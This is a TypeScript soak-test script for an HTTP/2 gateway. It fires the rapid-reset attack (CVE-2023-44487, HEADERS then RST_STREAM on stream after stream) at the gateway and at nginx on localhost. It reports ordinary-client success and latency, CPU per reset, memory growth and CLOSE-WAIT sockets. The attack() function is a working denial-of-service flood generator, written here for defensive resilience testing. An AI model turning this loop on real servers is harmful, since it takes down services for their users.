/**
 * `npm run soak`: the HTTP/2 rapid-reset attack (CVE-2023-44487: HEADERS then RST_STREAM, stream after
 * stream, on connection after connection) against Portcullis and against nginx on the same upstream
 * and certificate, while an ordinary client keeps making requests. Reported per server: the ordinary
 * requests' success and p50 against their p50 before the attack, the server's CPU per reset stream
 * (from /proc, its children included, less the ordinary requests at their cost measured alone), its
 * memory growth, the upstream requests the attack caused, and
 * the sockets left in CLOSE-WAIT once the attackers have gone.
 *
 * The other soak and fault runs are tests: Sentinel and Cluster failover under load
 * (test/e2e/store-failover.test.ts), worker kills and reload storms (test/e2e/workers.test.ts),
 * hostile traffic with fds and memory back to baseline (test/e2e/hostile.test.ts).
 *
 * Environment: SOAK_PAIRS (HEADERS+RST pairs per server, default 200000), SOAK_CONNECTIONS (attacker
 * connections at once, default 4).
 */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { mkdtemp, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { request as httpsRequest } from 'node:https'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { connect as tlsConnect } from 'node:tls'
import { h2 } from '../test/support/raw-requests.js'
import { treeCpuUs } from './capacity.js'
import { median, startPortcullis } from './portcullis.js'

const pairs = Number(process.env.SOAK_PAIRS ?? 200_000)
const attackers = Number(process.env.SOAK_CONNECTIONS ?? 4)
const children: ChildProcess[] = []
const goawayFrame = 0x7

/** HEADERS (END_STREAM, END_HEADERS) of literal fields, then RST_STREAM CANCEL. */
function pair(stream: number, host: string): Buffer {
  const fields = { ':method': 'GET', ':scheme': 'https', ':path': `/r${stream}`, ':authority': host }
  return Buffer.concat([h2.headers(stream, fields, true), h2.reset(stream)])
}

/**
 * One attacker: connections one after another, pairs on each until it is told to go away (streams
 * after a GOAWAY are ignored, so an attacker gains nothing by sending them) or closed, `budget` pairs in
 * all.
 */
async function attack(port: number, host: string, budget: { left: number }): Promise<void> {
  while (budget.left > 0) {
    await new Promise<void>((resolve) => {
      const socket = tlsConnect({
        host: '127.0.0.1',
        port,
        servername: host,
        ALPNProtocols: ['h2'],
        rejectUnauthorized: false,
      })
      let stream = 1
      let open = true
      const pump = () => {
        while (open && budget.left > 0 && stream < 2 ** 31 - 2) {
          budget.left--
          const more = socket.write(pair(stream, host))
          stream += 2
          if (!more) return void socket.once('drain', pump)
        }
        if (open) socket.end()
      }
      socket.once('secureConnect', () => {
        socket.write(Buffer.concat([h2.preface, h2.settings()]))
        pump()
      })
      let unread = Buffer.alloc(0)
      socket.on('data', (chunk: Buffer) => {
        unread = Buffer.concat([unread, chunk])
        // Frame by frame: 9 bytes of header (24-bit length, type, flags, stream), then the payload.
        while (unread.length >= 9 && unread.length >= 9 + unread.readUIntBE(0, 3)) {
          const type = unread[3]
          unread = unread.subarray(9 + unread.readUIntBE(0, 3))
          if (type === goawayFrame && open) {
            open = false
            socket.end()
          }
        }
      })
      socket.on('error', () => {})
      socket.once('close', () => {
        open = false
        resolve()
      })
    })
  }
}

/** An ordinary client: one request at a time on fresh connections; success and latencies. */
function ordinary(port: number, host: string, stop: () => boolean) {
  const latencies: number[] = []
  let failed = 0
  const done = (async () => {
    while (!stop()) {
      const started = performance.now()
      const status = await new Promise<number>((resolve) => {
        const request = httpsRequest(
          {
            host: '127.0.0.1',
            port,
            servername: host,
            path: '/ok',
            headers: { host },
            rejectUnauthorized: false,
            agent: false,
            timeout: 10_000,
          },
          (response) => {
            response.resume()
            response.on('end', () => resolve(response.statusCode ?? 0))
          },
        )
        request.on('timeout', () => request.destroy())
        request.on('error', () => resolve(0))
        request.end()
      })
      if (status === 200) latencies.push(performance.now() - started)
      else failed++
    }
  })()
  return { latencies, failed: () => failed, done }
}

const rssMb = (pid: number) =>
  Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]) / 1024

function closeWait(port: number): number {
  return execFileSync('ss', ['-Htn', 'state', 'close-wait', `( sport = :${port} )`], { encoding: 'utf8' })
    .split('\n')
    .filter(Boolean).length
}

async function measure(
  name: string,
  port: number,
  host: string,
  pid: number,
  upstream: { requests: number },
) {
  // Before: the ordinary client alone for 3 s.
  let stop = false
  const cpuAlone = treeCpuUs(pid) ?? 0
  const alone = ordinary(port, host, () => stop)
  await new Promise((resolve) => setTimeout(resolve, 3000))
  stop = true
  await alone.done
  const baseline = median(alone.latencies)
  // What an ordinary request costs the server, so that serving more of them during the attack does not
  // read as resets costing more.
  const cpuPerOrdinary = ((treeCpuUs(pid) ?? 0) - cpuAlone) / Math.max(1, alone.latencies.length)
  // During: the attack, with the ordinary client beside it.
  stop = false
  const during = ordinary(port, host, () => stop)
  const cpuBefore = treeCpuUs(pid) ?? 0
  const rssBefore = rssMb(pid)
  const requestsBefore = upstream.requests
  const started = performance.now()
  // The attackers run in processes of their own: beside the ordinary client, they would slow it down.
  await Promise.all(
    Array.from({ length: attackers }, () => {
      const child = spawn(process.execPath, [...process.execArgv, import.meta.filename], {
        stdio: 'inherit',
        env: { ...process.env, SOAK_ATTACK: `${port} ${host} ${Math.ceil(pairs / attackers)}` },
      })
      children.push(child)
      return new Promise((resolve) => child.once('exit', resolve))
    }),
  )
  const seconds = (performance.now() - started) / 1000
  const cpu = (treeCpuUs(pid) ?? 0) - cpuBefore
  stop = true
  await during.done
  const rssGrowth = rssMb(pid) - rssBefore
  await new Promise((resolve) => setTimeout(resolve, 1000))
  const ordinaryCount = during.latencies.length
  const attackCpu = Math.max(0, cpu - (ordinaryCount + during.failed()) * cpuPerOrdinary)
  return {
    name,
    success: ordinaryCount / (ordinaryCount + during.failed()),
    ordinary: ordinaryCount + during.failed(),
    p50: median(during.latencies),
    baseline,
    cpuPerReset: attackCpu / pairs,
    rssGrowth,
    upstreamRequests: upstream.requests - requestsBefore - ordinaryCount,
    seconds,
    closeWait: closeWait(port),
  }
}

async function main(): Promise<void> {
  const upstream = { requests: 0 }
  const origin = createServer((_request, response) => {
    upstream.requests++
    response.end('ok')
  })
  await new Promise<void>((resolve) => origin.listen(0, '127.0.0.1', resolve))
  const originPort = (origin.address() as { port: number }).port
  const gateway = await startPortcullis(
    `app: app\nhosts: [soak.test]\nupstream: { targets: ["http://127.0.0.1:${originPort}"] }\n`,
    [],
    children,
  )
  const gatewayPort = gateway.httpsPort
  const state = gateway.stateDir
  const work = await mkdtemp(path.join(tmpdir(), 'pcl-soak-'))
  // nginx on the certificate the gateway made for the app.
  const nginxPort = gatewayPort + 1
  const conf = path.join(work, 'nginx.conf')
  await writeFile(
    conf,
    `worker_processes 1;
pid ${work}/nginx.pid;
error_log stderr crit;
events { worker_connections 4096; }
http {
  access_log off;
  upstream app { server 127.0.0.1:${originPort}; keepalive 64; }
  server {
    listen 127.0.0.1:${nginxPort} ssl http2;
    ssl_certificate ${state}/internal/app.crt;
    ssl_certificate_key ${state}/internal/app.key;
    location / { proxy_pass http://app; proxy_http_version 1.1; proxy_set_header Connection ""; }
  }
}
`,
  )
  const nginx = spawn('nginx', ['-p', work, '-c', conf, '-g', 'daemon off;'], { stdio: 'inherit' })
  children.push(nginx)
  await new Promise((resolve) => setTimeout(resolve, 1000))
  const results = [
    await measure('nginx', nginxPort, 'soak.test', nginx.pid as number, upstream),
    await measure('portcullis', gatewayPort, 'soak.test', gateway.child.pid as number, upstream),
  ]
  console.log(
    `\nHTTP/2 rapid reset: ${pairs} HEADERS+RST_STREAM pairs over ${attackers} connections at a time\n`,
  )
  console.log(
    '| server | ordinary requests | success | p50 ms (before) | CPU µs per reset | RSS growth MB | upstream requests caused | CLOSE-WAIT after |',
  )
  console.log('| --- | --- | --- | --- | --- | --- | --- | --- |')
  for (const r of results)
    console.log(
      `| ${r.name} | ${r.ordinary} | ${(r.success * 100).toFixed(1)}% | ${r.p50.toFixed(1)} (${r.baseline.toFixed(1)}) | ${r.cpuPerReset.toFixed(1)} | ${r.rssGrowth.toFixed(1)} | ${r.upstreamRequests} | ${r.closeWait} |`,
    )
  const [reference, ours] = results as [(typeof results)[number], (typeof results)[number]]
  console.log(
    `\ntargets: success ≥ 99%: ${(ours.success * 100).toFixed(1)}%; p50 within 3× of its baseline: ${(ours.p50 / ours.baseline).toFixed(2)}×; CPU per reset within 3× of nginx: ${(ours.cpuPerReset / reference.cpuPerReset).toFixed(2)}×; CLOSE-WAIT: ${ours.closeWait}`,
  )
  origin.close()
}

const attackOrder = process.env.SOAK_ATTACK?.split(' ')
const run = attackOrder
  ? attack(Number(attackOrder[0]), attackOrder[1] as string, { left: Number(attackOrder[2]) })
  : main()
run
  .catch((error: unknown) => {
    console.error(error)
    process.exitCode = 1
  })
  .finally(() => {
    for (const child of children) child.kill('SIGTERM')
  })
